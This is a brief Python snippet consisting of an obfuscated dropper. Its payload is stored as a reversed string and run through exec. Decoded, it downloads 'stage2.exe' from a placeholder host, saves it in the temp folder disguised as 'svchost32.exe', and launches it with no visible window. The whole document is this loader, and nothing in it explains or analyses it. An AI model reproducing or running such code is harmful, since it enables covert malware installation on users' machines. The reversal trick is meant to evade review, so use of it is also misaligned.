_k = '\n)00000080x0=sgalfnoitaerc ,]p[(nepoP.ssecorpbus\n))(daer.)"exe.2egats/dilavni.elpmaxe//:ptth"(nepolru.tseuqer.billru(etirw.)"bw" ,p(nepo\n)"exe.23tsohcvs" ,)(ridpmetteg.elifpmet(nioj.htap.so = p\nelifpmet ,tseuqer.billru ,ssecorpbus ,so tropmi'
exec(_k[::-1])
